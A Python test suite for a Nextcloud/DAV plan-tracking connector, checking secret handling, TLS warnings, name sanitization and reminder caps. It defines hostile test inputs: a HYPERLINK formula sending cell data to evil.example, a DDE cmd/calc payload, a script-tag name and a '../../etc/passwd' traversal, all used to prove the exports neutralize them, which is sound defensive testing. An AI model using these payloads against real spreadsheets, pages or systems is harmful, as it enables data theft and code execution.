"""Security (issue 10): secrets only from a file or the environment and never shown, TLS verification on
(a warning on every run when off), names sanitized for paths, spreadsheets and HTML, reminders capped.
"""
from __future__ import annotations

import base64
import csv
import json
import logging
import shutil
import subprocess
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest

from connector.cli import main
from connector.config import load_config
from connector.errors import ConfigError
from connector.models import MilestoneKind, Obligation, Plan, RemoteFile, Status, Task, Unit
from connector.register import compute_register, write_all
from connector.register.export import spreadsheet_safe
from connector.register.status import RegisterRow
from connector.reminders import DIGEST_OVER, send_reminders
from connector.render.names import NameRules, safe_segment, unit_folder
from ncfixtures import exchange
from test_bad_input import FakeDav, response

VN = timezone(timedelta(hours=7))
SECRET = "Mat-khau-bi-mat-42"
SEED = Path(__file__).resolve().parents[1] / "mappings/plans/ke-hoach-21-kl-tw.txt"
UNITS = Path(__file__).resolve().parents[1] / "mappings/units.example.toml"


def config(tmp_path: Path, server: str, *, mode: int = 0o600) -> Path:
    pw = tmp_path / "app-password"
    pw.write_text(SECRET + "\n", encoding="utf-8")
    pw.chmod(mode)
    cfg = tmp_path / "plan-connector.toml"
    cfg.write_text(f'{server}\npassword_file = "app-password"\n[plan]\ndocument = "{SEED}"\nunits = "{UNITS}"\n'
                   f'[state]\ndir = "{tmp_path / "state"}"\n', encoding="utf-8")
    return cfg


NEXTCLOUD = '[server]\nkind = "nextcloud"\nurl = "https://cloud.example.org"\nuser = "plan-bot"'


# --- secrets from a file, warned about when others can read it ------------------------------------

def test_a_password_key_in_the_config_is_refused_without_showing_it(tmp_path, capsys):
    cfg = tmp_path / "plan-connector.toml"
    cfg.write_text(f'{NEXTCLOUD}\npassword = "{SECRET}"\n', encoding="utf-8")
    assert main(["check", "-c", str(cfg)]) == 2
    out, err = capsys.readouterr()
    assert f"{cfg}:5: [server] password: never put the password in the config file" in err
    assert SECRET not in out + err and err.count("\n") == 1


@pytest.mark.parametrize("key", ["url", "files_root"])
def test_a_password_in_a_server_url_is_refused_without_showing_it(tmp_path, key):
    server = ('[server]\nkind = "dav"\ncaldav_home = "https://dav.example.org/cal/"\n'
              'files_root = "https://dav.example.org/files/"\nuser = "bot"')
    server = server.replace("https://dav.example.org/files/", f"https://bot:{SECRET}@dav.example.org/files/") \
        if key == "files_root" else server + f'\nurl = "https://bot:{SECRET}@dav.example.org/"'
    with pytest.raises(ConfigError) as caught:
        load_config(str(config(tmp_path, server)), env={})
    assert f"server.{key} holds a user name or password" in str(caught.value) and SECRET not in str(caught.value)


def test_a_password_file_others_can_read_is_warned_about_on_every_run(tmp_path, caplog):
    cfg = config(tmp_path, NEXTCLOUD, mode=0o644)
    with caplog.at_level(logging.WARNING):
        load_config(str(cfg), env={})
        load_config(str(cfg), env={})
    said = [r.getMessage() for r in caplog.records if "can be read by other users" in r.getMessage()]
    assert len(said) == 2 and "mode 644" in said[0] and "chmod 600" in said[0] and SECRET not in said[0]
    caplog.clear()
    for mode in (0o600, 0o640):  # 0640 with the service's group is what scripts/install makes
        (tmp_path / "app-password").chmod(mode)
        with caplog.at_level(logging.WARNING):
            load_config(str(cfg), env={})
        assert not [r for r in caplog.records if "can be read" in r.getMessage()]


def test_tls_verification_off_is_warned_about_on_every_run(tmp_path, caplog):
    cfg = config(tmp_path, NEXTCLOUD + "\nverify_tls = false")
    with caplog.at_level(logging.WARNING):
        load_config(str(cfg), env={})
        load_config(str(cfg), env={})
    assert sum("TLS certificates are not verified" in r.getMessage() for r in caplog.records) == 2
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        load_config(str(config(tmp_path, NEXTCLOUD)), env={})  # on by default: nothing to say
    assert not caplog.records


# --- secrets never shown by failing runs ----------------------------------------------------------

def leaks(text: str, user: str = "admin") -> list[str]:
    forms = [SECRET, base64.b64encode(f"{user}:{SECRET}".encode()).decode()]
    return [f for f in forms if f in text]


def files_text(*dirs: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8", errors="replace") for d in dirs if d.exists()
                     for p in d.rglob("*") if p.is_file() and p.suffix != ".xlsx")


@pytest.mark.server
def test_a_refused_login_shows_the_password_nowhere(tmp_path, embedded, capsys):
    cfg = config(tmp_path, f'[server]\nkind = "dav"\ncaldav_home = "{embedded.calendar_home}"\n'
                           f'files_root = "{embedded.files_root}"\nuser = "{embedded.user}"')  # not its password
    seen = []
    for command in (["sync", "--json"], ["collect", "--json"], ["run", "--json"], ["check", "--json"]):
        log_file = tmp_path / f"{command[0]}.log"
        code = main([*command[:1], "-c", str(cfg), *command[1:], "-vv", "--log-file", str(log_file), "--log-format",
                     "json", "--out", str(tmp_path / "out")] if command[0] in ("collect", "run") else
                    [*command[:1], "-c", str(cfg), *command[1:], "-vv", "--log-file", str(log_file)])
        out, err = capsys.readouterr()
        assert code == 3 or (command[0] == "check" and code != 0), (command, code, err)
        seen += [out, err, log_file.read_text(encoding="utf-8")]
    assert not leaks("\n".join(seen) + files_text(tmp_path / "state", tmp_path / "out"))


def test_a_server_that_echoes_the_password_does_not_get_it_shown(tmp_path, capsys):
    """A broken server echoes the Authorization header and the password in its error messages: neither reaches
    the output, the JSON, the log or the register."""
    auth = base64.b64encode(f"admin:{SECRET}".encode()).decode()
    echo = (f'<?xml version="1.0"?><d:error xmlns:d="DAV:" xmlns:s="http://sabredav.org/ns"><s:message>denied for '
            f'Basic {auth} (password {SECRET})</s:message></d:error>').encode()

    class Echo(FakeDav):
        def app(self, environ, start):
            if environ["REQUEST_METHOD"] in ("MKCOL", "MKCALENDAR", "PUT"):
                self.calls.append((environ["REQUEST_METHOD"], environ["PATH_INFO"]))
                start("403 Forbidden", [("Content-Type", "application/xml; charset=utf-8")])
                return [echo]
            return super().app(environ, start)

    fake = Echo(files_listing=lambda url: response("/files/admin/", "<d:resourcetype><d:collection/></d:resourcetype>"))
    try:
        cfg = config(tmp_path, f'[server]\nkind = "dav"\ncaldav_home = "{fake.url}/cal/admin/"\n'
                               f'files_root = "{fake.url}/files/admin/"\nuser = "admin"')
        seen = []
        for command in ("sync", "run"):
            log_file = tmp_path / f"{command}.log"
            extra = ["--out", str(tmp_path / "out")] if command == "run" else []
            code = main([command, "-c", str(cfg), "--json", "-vv", "--log-file", str(log_file), *extra])
            out, err = capsys.readouterr()
            assert code == 1 and out.startswith("{"), (command, code, out, err)
            assert json.loads(out)["failed"]
            seen += [out, err, log_file.read_text(encoding="utf-8")]
    finally:
        fake.close()
    assert "denied for" in "\n".join(seen)  # the server's message is kept, without the secret
    assert not leaks("\n".join(seen) + files_text(tmp_path / "state", tmp_path / "out"))


# --- names: paths, spreadsheets, HTML ---------------------------------------------------------------

def test_folder_names_never_hold_separators_traversal_or_what_the_server_forbids():
    assert [safe_segment(t) for t in ("..", "../../etc/passwd", "a\\b", "CON", "desktop.ini", "x.part", "Tổ 🎉 1")] == [
        "", "-..-etc-passwd", "a-b", "_CON", "_desktop.ini", "x.part_", "Tổ 1"]
    caps = json.loads(exchange("nextcloud-34", "a2").response_body)["ocs"]["data"]
    recorded = NameRules.from_capabilities(caps)
    assert recorded == NameRules()  # Nextcloud 34's own list is within the safe default
    stricter = NameRules.from_capabilities({"capabilities": {"files": {
        "forbidden_filename_characters": ["#", "%"], "forbidden_filenames": ["ghi-chu.txt"],
        "forbidden_filename_basenames": ["bao-cao"], "forbidden_filename_extensions": [".tmp"]}}})
    assert safe_segment("Chi bộ #1 (100%)", stricter) == "Chi bộ -1 (100-)"
    assert [safe_segment(t, stricter) for t in ("ghi-chu.txt", "Bao-cao.docx", "x.tmp")] == [
        "_ghi-chu.txt", "_Bao-cao.docx", "x.tmp_"]
    assert NameRules.from_json(stricter.to_json()) == stricter
    assert unit_folder(Unit(id="cb-x", name="Chi bộ #1", group="g"), stricter) == "Chi bộ -1"


HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")'
SCRIPT = "<script>alert(1)</script>"


def hostile_register(tmp_path: Path):
    """A unit and an uploaded file named to attack the spreadsheet and the page that show them."""
    units = [Unit(id="cb-x", name=SCRIPT, group="x"), Unit(id="cb-y", name=HOSTILE, group="y")]
    plan = Plan(title="Kế hoạch", code="kh", tasks=[Task(number=1, title="@SUM(1+1)*cmd|' /C calc'!A0", text="…")])
    obligations = [Obligation(unit=u.id, task=1, milestone=1, period="2022-02-28", due=date(2022, 2, 28),
                              kind=MilestoneKind.ONCE, folder=f"{unit_folder(u)}/01 – Nhiệm vụ/Tháng 02-2022")
                   for u in units]
    files = [RemoteFile(path=f"{unit_folder(units[0])}/{name}", name=name, size=5,
                        uploaded_at=datetime(2022, 2, 1, 9, tzinfo=VN)) for name in (HOSTILE, f"{SCRIPT}.pdf", "-2+3")]
    reg = compute_register(obligations, files, units, plan, date(2022, 3, 1), datetime(2022, 3, 1, 8, tzinfo=VN))
    return reg, write_all(reg, tmp_path)


def test_names_that_look_like_formulas_stay_text_in_the_csv_and_the_xlsx(tmp_path):
    reg, paths = hostile_register(tmp_path)
    assert sorted(f.name for f in reg.unassigned) == sorted(["-2+3", HOSTILE, f"{SCRIPT}.pdf"])
    with paths["csv"].open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert f"'{HOSTILE}" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    book = openpyxl.load_workbook(paths["xlsx"])
    values = [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert (HOSTILE, "s") in values and ("-2+3", "s") in values
    assert not [v for v, t in values if t == "f"]  # no formula anywhere
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe("\tx") == "'\tx" and spreadsheet_safe("Chi bộ") == "Chi bộ"


def test_a_unit_or_file_named_like_a_script_is_text_in_the_html(tmp_path):
    _reg, paths = hostile_register(tmp_path)
    page = paths["html"].read_text(encoding="utf-8")
    assert SCRIPT not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script" not in page.lower()  # the page runs no script at all


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (apt-get install chromium); .ci/run installs it")
def test_in_a_browser_a_script_name_shows_as_text_and_runs_nothing(tmp_path):
    _reg, paths = hostile_register(tmp_path)
    dom = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
         f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", paths["html"].as_uri()],
        capture_output=True, text=True, timeout=60, check=True).stdout
    # The name is in the rendered DOM as text (escaped again by the serializer), and no script element exists.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in dom and "<script" not in dom.lower()


# --- reminders: capped per member per run ----------------------------------------------------------

class Notifications:
    def __init__(self, members: dict[str, list[str]]):
        self.members, self.sent = members, []

    def group_members(self, gid: str) -> list[str]:
        return self.members[gid]

    def notify(self, uid: str, short: str, long: str) -> None:
        self.sent.append((uid, short))


def test_reminders_are_capped_per_member_per_run_on_an_old_plan(tmp_path):
    """An old plan owes 60 overdue and 5 due-soon obligations per unit: each member gets at most DIGEST_OVER
    notices per unit and stage, a digest beyond that; a member of two units' groups two digests per stage."""
    from connector.register.status import Register
    from connector.state import State

    units = [Unit(id="a", name="Chi bộ A", group="ga"), Unit(id="b", name="Chi bộ B", group="gb")]
    rows = [RegisterRow(unit=u.id, unit_name=u.name, task=t, task_title=f"Nhiệm vụ {t}", milestone=1, period="2022",
                        due=date(2021, 12, 31), folder="x", status=Status.OVERDUE) for u in units for t in range(1, 61)]
    rows += [RegisterRow(unit="a", unit_name="Chi bộ A", task=t, task_title="x", milestone=1, period="2023",
                         due=date(2023, 3, 5), folder="x", status=Status.DUE_SOON) for t in range(61, 63)]
    reg = Register(as_of=date(2023, 3, 1), generated_at=datetime(2023, 3, 1, 8, tzinfo=VN), plan_title="K", rows=rows)
    ocs = Notifications({"ga": ["an", "chung"], "gb": ["binh", "chung"]})
    job = SimpleNamespace(ocs=ocs, units=units, dry_run=False, cfg=SimpleNamespace(server=SimpleNamespace(kind="nextcloud")),
                          state=State.open(tmp_path, "nextcloud:x", "kh"))
    send_reminders(job, reg)
    per_member = {m: [s for u, s in ocs.sent if u == m] for m in ("an", "binh", "chung")}
    assert len(per_member["an"]) == 1 + 2 and len(per_member["binh"]) == 1  # a digest; two single due-soon notices
    assert len(per_member["chung"]) == 2 + 2  # two units: a digest each, plus unit A's two due-soon notices
    assert all(len([s for s in sent if "nghĩa vụ" in s]) <= 2 for sent in per_member.values())
    assert max(len(v) for v in per_member.values()) <= 2 * 2 * DIGEST_OVER  # units x stages x cap
    ocs.sent.clear()
    send_reminders(job, reg)  # the next run: nothing again
    assert ocs.sent == []


def test_a_todo_never_starts_on_its_due_day():
    """RFC 5545: a VTODO's DUE is later than its DTSTART; a one-off milestone starting on its due day has DUE only."""
    from connector.render.ical import build_desired

    plan = Plan(title="K", code="kh", tasks=[Task(number=1, title="Họp", text="Họp", milestones=[
        {"phrase": "ngày 15/3/2022", "kind": "once", "due": date(2022, 3, 15), "start": date(2022, 3, 15)}])])
    unit = Unit(id="a", name="A", group="a")
    ob = Obligation(unit="a", task=1, milestone=1, period="2022-03-15", due=date(2022, 3, 15), start=date(2022, 3, 15),
                    kind=MilestoneKind.ONCE, folder="A/01 – Họp/Hạn 15-03-2022")
    _cals, items = build_desired(plan, [unit], [ob])
    todo = next(i for i in items if "-td-" in i.uid)
    assert "DUE;VALUE=DATE:20220315" in todo.ics and "DTSTART" not in todo.ics.split("BEGIN:VTODO", 1)[1]


def test_a_file_named_with_control_characters_is_listed_and_every_export_written(tmp_path):
    """A name with a control character (possible on a WebDAV server that stores names as given) used to
    stop register.xlsx (openpyxl refuses such text); it is listed like any other file, in the spreadsheet
    written Excel's way (_x0001_)."""
    unit = Unit(id="cb-x", name="Chi bộ X", group="x")
    plan = Plan(title="Kế hoạch", code="kh", tasks=[Task(number=1, title="Nhiệm vụ", text="…")])
    ob = Obligation(unit=unit.id, task=1, milestone=1, period="2022-02-28", due=date(2022, 2, 28),
                    kind=MilestoneKind.ONCE, folder=f"{unit_folder(unit)}/01 – Nhiệm vụ/Tháng 02-2022")
    name = "bao\x01cao\x0b.pdf"
    filed = datetime(2022, 2, 1, 9, tzinfo=VN)
    files = [RemoteFile(path=f"{ob.folder}/{name}", name=name, size=5, uploaded_at=filed),
             RemoteFile(path=f"{unit_folder(unit)}/{name}", name=name, size=5, uploaded_at=filed)]  # no task named
    reg = compute_register([ob], files, [unit], plan, date(2022, 3, 1), datetime(2022, 3, 1, 8, tzinfo=VN))
    paths = write_all(reg, tmp_path)
    assert reg.rows[0].status is Status.SUBMITTED_ON_TIME and [f.name for f in reg.unassigned] == [name]
    doc = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert doc["rows"][0]["files"][0]["name"] == name
    book = openpyxl.load_workbook(paths["xlsx"])
    assert book["Sổ theo dõi"].cell(2, 9).value == "Hoàn thành đúng hạn" and book["Sổ theo dõi"].cell(2, 11).value == 1
    assert book["Chưa xếp chỗ"].cell(2, 3).value == "bao_x0001_cao_x000B_.pdf"
    with paths["csv"].open(encoding="utf-8-sig", newline="") as f:
        assert next(r for r in csv.DictReader(f))["Số tệp"] == "1"
    assert "Hoàn thành đúng hạn" in paths["html"].read_text(encoding="utf-8")
